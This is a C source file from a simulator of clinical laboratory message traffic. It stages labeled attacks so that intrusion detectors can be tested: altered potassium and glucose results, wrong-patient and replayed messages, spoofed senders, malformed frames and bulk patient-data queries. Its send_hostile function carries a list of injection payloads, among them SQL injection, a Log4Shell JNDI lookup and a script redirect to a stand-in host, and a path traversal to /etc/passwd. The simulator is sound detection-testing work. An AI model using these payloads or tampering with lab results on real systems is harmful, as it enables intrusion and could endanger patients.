/* What is staged on request. Attacks on results take a sample of a known kind of analyzer through the lab, so that everything else about it is
 * ordinary. */
#include "engine/simulate/lab.h"

#include "wire/mllp_write.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define BULK 40                  /* patients asked for in one go */
#define QUIET (75 * TIME_SECOND) /* no attack before: detectors learn who is who meanwhile */

static const char *const names[ATTACK_COUNT] = {[ATTACK_NONE] = "",
#define ATTACK_NAME(c, kind) [ATTACK_##c] = kind,
                                                SIMULATE_ATTACKS(ATTACK_NAME)
#undef ATTACK_NAME
};

const char *simulate_attack_name(enum simulate_attack kind)
{
    return kind > ATTACK_NONE && kind < ATTACK_COUNT ? names[kind] : "";
}

enum simulate_attack simulate_attack_kind(struct span name)
{
    for (unsigned i = 1; i < ATTACK_COUNT; i++)
        if (span_is(name, names[i]))
            return (enum simulate_attack)i;
    return ATTACK_NONE;
}

/* Potassium, the second test of the basic metabolic panel: small, watched, and deadly when wrong. */
static struct value *target(struct sample *sample)
{
    return &sample->values[1];
}

#define SHIFT_BY 8 /* 0.8 mmol/L: of a single patient nobody would wonder */

static void set_status(struct sample *sample, char status)
{
    for (size_t i = 0; i < sample->values_n; i++)
        sample->values[i].status = status;
}

/* The last two digits that are not the same change places. */
static void swap_digits(char *number)
{
    for (size_t i = strlen(number); i >= 2; i--)
        if (number[i - 1] != number[i - 2]) {
            char c = number[i - 1];
            number[i - 1] = number[i - 2];
            number[i - 2] = c;
            return;
        }
}

/* What comes a second time, as an attacker changed it. */
static void shape_again(struct simulate *s, struct sample *sample)
{
    struct value *v = target(sample);
    switch (sample->attack) {
    case ATTACK_RESULT_ALTERED: v->number = v->number > 50 ? 42 : 68; break;
    case ATTACK_ALTERED_ASTM:
        v = &sample->values[2]; /* hemoglobin */
        v->number = v->number > 110 ? 68 : 141;
        break;
    case ATTACK_RESULT_WRONG_PATIENT: sample->patient = &s->patients[((size_t)(sample->patient - s->patients) + 1) % PATIENTS]; break;
    case ATTACK_REPLAYED_SPECIMEN: /* somebody else's */
        sample->patient = &s->patients[((size_t)(sample->patient - s->patients) + 1) % PATIENTS];
        swap_digits(sample->barcode);
        swap_digits(sample->order);
        swap_digits(sample->step);
        break;
    case ATTACK_ALTERED_DOWNGRADE: set_status(sample, 'P'); break;
    default: break;
    }
    value_flag(v);
}

void attack_shape(struct simulate *s, struct sample *sample)
{
    struct value *v = target(sample);
    if (s->shifting && sample->panel == PANEL_BMP && sample->patient != NULL && (sample->stage == STAGE_FIRST || sample->stage == STAGE_SECOND_RUN)) {
        v->number += SHIFT_BY;
        value_flag(v);
    }
    if (sample->stage == STAGE_RESENT)
        shape_again(s, sample);
    switch (sample->attack) {
    case ATTACK_RESULT_UNIT_CHANGED: v->unit = v->of->other_unit; break;
    case ATTACK_RESULT_FLAG_MISMATCH:
        v->number = 69;
        v->flags = "N";
        break;
    case ATTACK_RESULT_IMPLAUSIBLE:
        v->number = v->of->absurd;
        value_flag(v);
        break;
    case ATTACK_ALTERED_CORRECTION: v->status = 'C'; break;
    default: break;
    }
}

/* What is done to a result before or while its analyzer reports it: the field, and whether the second report is the one in question. NULL: nothing.
 */
static const char *reported_field(enum simulate_attack attack, bool *second)
{
    *second = false;
    switch (attack) {
    case ATTACK_RESULT_ALTERED: *second = true; return "OBX-5";
    case ATTACK_ALTERED_ASTM: *second = true; return "R-4";
    case ATTACK_ALTERED_DOWNGRADE: *second = true; return "OBX-11";
    case ATTACK_RESULT_WRONG_PATIENT: *second = true; return "PID-3";
    case ATTACK_REPLAYED_SPECIMEN: *second = true; return "SPM-2";
    case ATTACK_RESULT_UNIT_CHANGED: return "OBX-6";
    case ATTACK_RESULT_FLAG_MISMATCH: return "OBX-8";
    case ATTACK_RESULT_IMPLAUSIBLE:
    case ATTACK_SHIFT: return "OBX-5";
    case ATTACK_ALTERED_CORRECTION: return "OBX-11";
    case ATTACK_CONTROL_AS_PATIENT: return "OBR-11";
    case ATTACK_MISSING_PART: return "OBX";
    case ATTACK_OVERLAP: return "stream";
    case ATTACK_RESULT_MISSING:
    case ATTACK_DELAYED:
    case ATTACK_ORDER_NONE:
    case ATTACK_ORDER_CANCELLED: return "";
    default: return NULL;
    }
}

void attack_reported(struct simulate *s, struct sample *sample, tq_time at, const char *control)
{
    bool second;
    const char *field = reported_field(sample->attack, &second);
    if (field == NULL || (second && sample->stage != STAGE_RESENT))
        return;
    const char *test = sample->attack == ATTACK_ALTERED_ASTM ? sample->values[2].of->code : target(sample)->of->code;
    truth_attack(s, sample->attack, at, control[0] != 0 ? control : sample->barcode, field, test, sample, sample->analyzer->host);
}

bool attack_comes_again(const struct sample *sample)
{
    bool second;
    (void)reported_field(sample->attack, &second);
    return second;
}

void attack_ordered(struct simulate *s, const struct sample *sample, tq_time at, const char *control)
{
    if (sample->attack == ATTACK_ORDER_CHANGED)
        truth_attack(s, sample->attack, at, control, "OBR", NULL, sample, s->middleware_lab);
}

/* What the middleware does to a result that it passes on, by the field that it is done to; NULL: nothing. */
static const char *forwarded_field(enum simulate_attack attack)
{
    switch (attack) {
    case ATTACK_RESULT_ALTERED_IN_TRANSIT:
    case ATTACK_TRANSIT_DECIMAL:
    case ATTACK_TRANSIT_SWAPPED: return "OBX-5";
    case ATTACK_TRANSIT_UNIT: return "OBX-6";
    case ATTACK_TRANSIT_FLAG: return "OBX-8";
    case ATTACK_TRANSIT_RANGE: return "OBX-7";
    case ATTACK_TRANSIT_STATUS: return "OBX-11";
    case ATTACK_TRANSIT_SPECIMEN: return "SPM-2";
    case ATTACK_TRANSIT_PATIENT: return "PID-3";
    case ATTACK_FALSE_ANSWER: return "MSA-2";
    case ATTACK_EXTRA: return "";
    case ATTACK_REPLAYED_RENUMBERED: return "MSH-10";
    default: return NULL;
    }
}

void attack_shape_forward(struct simulate *s, struct sample *sample)
{
    struct value *v = target(sample);
    switch (sample->attack) {
    case ATTACK_RESULT_ALTERED_IN_TRANSIT:
        v->number = v->number > 50 ? 44 : 63;
        value_flag(v);
        break;
    case ATTACK_TRANSIT_DECIMAL: /* glucose: 88 becomes 880 */
        v = &sample->values[4];
        v->number = v->number > 300 ? v->number / 10 : v->number * 10;
        value_flag(v);
        break;
    case ATTACK_TRANSIT_UNIT: v->unit = v->of->other_unit; break;
    case ATTACK_TRANSIT_FLAG: v->flags = strcmp(v->flags, "N") == 0 ? "H" : "N"; break;
    case ATTACK_TRANSIT_RANGE: v->range_by = 12; break;
    case ATTACK_TRANSIT_STATUS: set_status(sample, 'P'); break;
    case ATTACK_TRANSIT_SPECIMEN: swap_digits(sample->barcode); break;
    case ATTACK_TRANSIT_PATIENT: sample->patient = &s->patients[((size_t)(sample->patient - s->patients) + 1) % PATIENTS]; break;
    case ATTACK_TRANSIT_SWAPPED:
        if (s->passed_on.values_n == sample->values_n)
            memcpy(sample->values, s->passed_on.values, sizeof sample->values);
        else
            sample_measure(&s->rng, sample); /* nobody's yet: then a stranger's */
        break;
    case ATTACK_MISSING_PART:
        memmove(v, v + 1, (sample->values_n - 2) * sizeof *v);
        sample->values_n--;
        break;
    default: break;
    }
    if (sample->attack == ATTACK_NONE && sample->panel == PANEL_BMP)
        s->passed_on = *sample;
}

/* A message kept to be sent again later. */
struct replay {
    struct replay *next;
    char control[CONTROL_TEXT];
    struct sample sample;
    size_t n;
    uint8_t bytes[];
};

static void replay(void *world, tq_time at, void *what)
{
    struct simulate *s = world;
    struct replay *r = what;
    struct conn c = {0};
    conn_open(&s->net, &c, s->middleware, s->lis, PORT_LIS_RESULTS, at, false);
    buf_clear(&s->answer);
    hl7_ack(&s->answer, &s->lis_party, &s->middleware_party, "R01", at, r->control, "AA", NULL);
    truth_attack(s, ATTACK_RESULT_REPLAYED, c.clock, r->control, "", NULL, &r->sample, s->middleware);
    mllp_exchange(s, &c, 0, span_of(r->bytes, r->n), buf_span(&s->answer));
    conn_close(&c, 0);
}

void attack_forwarded(struct simulate *s, const struct sample *sample, struct span message, const char *control, tq_time at)
{
    const char *field = forwarded_field(sample->attack);
    bool due = field != NULL && (sample->attack != ATTACK_REPLAYED_RENUMBERED || sample->forwards == 2);
    if (due)
        truth_attack(s, sample->attack, at, control, field, sample->values[sample->attack == ATTACK_TRANSIT_DECIMAL ? 4 : 1].of->code, sample,
                     sample->attack == ATTACK_FALSE_ANSWER ? s->lis : s->middleware);
    if (sample->attack != ATTACK_RESULT_REPLAYED)
        return;
    struct replay *r = malloc(sizeof *r + message.n);
    if (r == NULL) {
        s->failed = true;
        return;
    }
    r->sample = *sample;
    r->n = message.n;
    snprintf(r->control, sizeof r->control, "%s", control);
    memcpy(r->bytes, message.p, message.n);
    r->next = s->replays;
    s->replays = r;
    lab_do(s, at + 75 * TIME_SECOND, replay, r);
}

/* A whole message to the LIS from the intruder's machine, on a connection of its own. */
static void intrude(struct simulate *s, enum simulate_attack kind, struct party *as, tq_time at)
{
    struct conn c = {0};
    char control[CONTROL_TEXT];
    struct sample *sample = order_make(s, &s->analyzers[0], at);
    if (sample == NULL)
        return;
    sample->panel = PANEL_BMP;
    sample->measured = at - 20 * TIME_SECOND;
    sample_measure(&s->rng, sample);
    conn_open(&s->net, &c, s->intruder, s->lis, PORT_LIS_RESULTS, at, false);
    buf_clear(&s->message);
    buf_clear(&s->answer);
    hl7_oru_forward(s, &s->message, as, sample, at, control);
    hl7_ack(&s->answer, &s->lis_party, as, "R01", at, control, "AA", NULL);
    truth_attack(s, kind, c.clock, control, "MSH-3", NULL, sample, s->intruder);
    mllp_exchange(s, &c, 0, buf_span(&s->message), buf_span(&s->answer));
    conn_close(&c, 0);
    sample_release(s, sample);
}

/* The lasting connection of an analyzer, open. */
static struct conn *link_of(struct simulate *s, struct analyzer *a, tq_time at)
{
    conn_at(&a->up, at);
    if (!a->up.open)
        conn_open(&s->net, &a->up, a->host, a->upstream, PORT_MIDDLEWARE, a->up.clock, false);
    return &a->up;
}

/* A message whose inside is broken: the frame and MSH are whole, then a patient cut short, bytes that are no segment, and a result without its
 * fields. */
static void send_broken(struct simulate *s, struct analyzer *a, tq_time at)
{
    char control[CONTROL_TEXT];
    struct conn *c = link_of(s, a, at);
    buf_clear(&s->message);
    buf_clear(&s->answer);
    hl7_msh(&s->message, &a->party, &s->middleware_party, "ORU^R01", NULL, c->clock, control);
    buf_add_str(&s->message, "PID|1||MR04\rOB");
    for (unsigned i = 0; i < 60; i++)
        buf_u8(&s->message, (uint8_t)(0x80 + rng_below(&s->rng, 0x7f)));
    buf_add_str(&s->message, "\r|||\rOBX|x|NM\r");
    hl7_ack(&s->answer, &s->middleware_party, &a->party, "R01", c->clock, control, "AE", "segment not known");
    truth_attack(s, ATTACK_MESSAGE_MALFORMED, c->clock, control, "segment 3", NULL, NULL, a->host);
    mllp_exchange(s, c, 0, buf_span(&s->message), buf_span(&s->answer));
}

/* A message whose frame is broken: it stops in the middle of a result and the next frame begins, with a whole message. */
static void send_cut(struct simulate *s, struct analyzer *a, tq_time at)
{
    char control[CONTROL_TEXT];
    struct sample *sample = order_make(s, a, at);
    struct conn *c = link_of(s, a, at);
    if (sample == NULL)
        return;
    sample->panel = PANEL_BMP;
    sample->measured = at - 20 * TIME_SECOND;
    sample_measure(&s->rng, sample);
    buf_clear(&s->message);
    hl7_oru_analyzer(&s->message, a, sample, &s->middleware_party, c->clock, control);
    buf_clear(&s->frame);
    buf_u8(&s->frame, MLLP_START);
    buf_add(&s->frame, s->message.p, s->message.n * 2 / 3);
    truth_attack(s, ATTACK_MESSAGE_MALFORMED, c->clock, control, "frame", NULL, sample, a->host);
    conn_send(c, 0, buf_span(&s->frame), false);
    c->clock += rng_between(&s->rng, 900 * TIME_MS, 2000 * TIME_MS);
    buf_clear(&s->message);
    buf_clear(&s->answer);
    hl7_oru_analyzer(&s->message, a, sample, &s->middleware_party, c->clock, control);
    hl7_ack(&s->answer, &s->middleware_party, &a->party, "R01", c->clock, control, "AA", NULL);
    mllp_exchange(s, c, 0, buf_span(&s->message), buf_span(&s->answer));
    lab_later(s, c->clock + 2 * TIME_SECOND, middleware_forward, sample);
    sample_release(s, sample);
}

/* The first breaks the inside, the next the frame, and so on in turns. */
static void send_malformed(struct simulate *s, tq_time at)
{
    if (s->truth.malformed++ % 2 == 0)
        send_broken(s, &s->analyzers[0], at);
    else
        send_cut(s, &s->analyzers[0], at);
}

/* A message that is well formed, with text that tries what careless receivers fall for. */
static void send_hostile(struct simulate *s, tq_time at)
{
    static const char *const payloads[] = {"'; DROP TABLE results; --", "${jndi:ldap://198.51.100.66:1389/a}",
                                           "<script>document.location='http://198.51.100.66/'</script>", "../../../../etc/passwd", "%n%n%n%s%s%s%x"};
    char control[CONTROL_TEXT];
    struct analyzer *a = &s->analyzers[0];
    struct sample *sample = order_make(s, a, at);
    if (sample == NULL)
        return;
    sample->panel = PANEL_BMP;
    sample->comment = payloads[rng_below(&s->rng, 5)];
    sample->measured = at - 20 * TIME_SECOND;
    sample_measure(&s->rng, sample);
    struct conn *c = link_of(s, a, at);
    buf_clear(&s->message);
    buf_clear(&s->answer);
    hl7_oru_analyzer(&s->message, a, sample, &s->middleware_party, c->clock, control);
    hl7_ack(&s->answer, &s->middleware_party, &a->party, "R01", c->clock, control, "AA", NULL);
    truth_attack(s, ATTACK_MESSAGE_HOSTILE, c->clock, control, "NTE-3", NULL, sample, a->host);
    mllp_exchange(s, c, 0, buf_span(&s->message), buf_span(&s->answer));
    lab_later(s, c->clock + 2 * TIME_SECOND, middleware_forward, sample);
    sample_release(s, sample);
}

/* One patient after another, asked for by a work place. */
static void query_in_bulk(struct simulate *s, tq_time at)
{
    struct conn c = {0};
    struct party as;
    char control[CONTROL_TEXT];
    struct host *from = s->stations[STATIONS - 1];
    party_init(&as, "REPORTS", "OFFICE", "2.5.1", "UNICODE UTF-8", "REP");
    as.control = rng_below(&s->rng, 1000) * 100;
    conn_open(&s->net, &c, from, s->lis, PORT_LIS_RESULTS, at, false);
    for (unsigned i = 0; i < BULK; i++) {
        const struct patient *p = &s->patients[(i * 5) % PATIENTS];
        buf_clear(&s->message);
        buf_clear(&s->answer);
        hl7_people_query(s, &s->message, &as, p, c.clock, control);
        hl7_people_answer(s, &s->answer, &as, p, c.clock, control);
        if (i == 0)
            truth_attack(s, ATTACK_PHI_BULK_QUERY, c.clock, control, "QPD-3", NULL, NULL, from);
        mllp_exchange(s, &c, 0, buf_span(&s->message), buf_span(&s->answer));
        c.clock += rng_between(&s->rng, 10 * TIME_MS, 40 * TIME_MS);
    }
    conn_close(&c, 0);
}

/* Results that no analyzer measured, made up by whoever has the middleware. */
static void forge(struct simulate *s, struct sample *sample, tq_time at)
{
    sample->measured = at - 20 * TIME_SECOND;
    sample_measure(&s->rng, sample);
    lab_later(s, at + 2 * TIME_SECOND, middleware_forward, sample);
}

/* Takes a sample with this attack in it through the lab. */
static void send_sample(struct simulate *s, enum simulate_attack kind, tq_time at)
{
    bool counts = kind == ATTACK_ALTERED_ASTM;
    bool law = kind == ATTACK_ORDER_CHANGED;
    struct sample *sample = order_make(s, &s->analyzers[counts ? 3 : law ? 1 : 0], at);
    if (sample == NULL)
        return;
    sample->panel = counts ? PANEL_CBC : law ? PANEL_CARDIAC : PANEL_BMP;
    sample->attack = kind;
    if (kind == ATTACK_CONTROL_AS_PATIENT) {
        snprintf(sample->barcode, sizeof sample->barcode, "%s", s->control[0] != 0 ? s->control : "QC1-LOT2200");
        sample->order[0] = 0;
    } else if (kind != ATTACK_ORDER_NONE && kind != ATTACK_EXTRA) {
        middleware_order(s, sample, at);
    }
    if (kind == ATTACK_ORDER_CANCELLED) {
        sample->cancelled = true;
        middleware_order(s, sample, at + 2 * TIME_SECOND);
    }
    if (kind == ATTACK_EXTRA)
        forge(s, sample, at);
    else
        lab_later(s, at + 8 * TIME_SECOND, law ? analyzer_arrive : analyzer_report, sample);
    sample_release(s, sample);
}

static void stage(void *world, tq_time at, void *what)
{
    struct simulate *s = world;
    const enum simulate_attack *staged = what;
    enum simulate_attack kind = *staged;
    struct party as;
    switch (kind) {
    case ATTACK_SENDER_UNKNOWN:
        party_init(&as, "LABPRO-X", "BACKROOM", "2.5.1", "UNICODE UTF-8", "X");
        intrude(s, kind, &as, at);
        break;
    case ATTACK_SENDER_SPOOFED:
        as = s->middleware_party;
        as.control += 40000; /* the numbers of somebody who does not know where the true sender is */
        intrude(s, kind, &as, at);
        break;
    case ATTACK_MESSAGE_MALFORMED: send_malformed(s, at); break;
    case ATTACK_MESSAGE_HOSTILE: send_hostile(s, at); break;
    case ATTACK_PHI_BULK_QUERY: query_in_bulk(s, at); break;
    case ATTACK_SHIFT:
        s->shifting = true;
        send_sample(s, kind, at);
        break;
    default: send_sample(s, kind, at); break;
    }
}

void attack_free(struct simulate *s)
{
    while (s->replays != NULL) {
        struct replay *r = s->replays;
        s->replays = r->next;
        free(r);
    }
}

void attack_start(struct simulate *s)
{
    unsigned total = 0;
    unsigned k = 0;
    for (unsigned kind = 1; kind < ATTACK_COUNT; kind++)
        total += s->options.attacks[kind];
    /* after a while in which the lab is its ordinary self, and not at the very end */
    int64_t first = s->options.seconds * TIME_SECOND / 3 < QUIET ? QUIET : s->options.seconds * TIME_SECOND / 3;
    int64_t step = total == 0 ? 0 : (s->options.seconds * TIME_SECOND / 2 + 10 * TIME_SECOND) / total;
    for (unsigned kind = 1; kind < ATTACK_COUNT; kind++) {
        s->staged[kind] = (enum simulate_attack)kind;
        for (unsigned i = 0; i < s->options.attacks[kind]; i++)
            lab_do(s, s->start + first + step * k++ + rng_between(&s->rng, 0, step / 2), stage, &s->staged[kind]);
    }
}
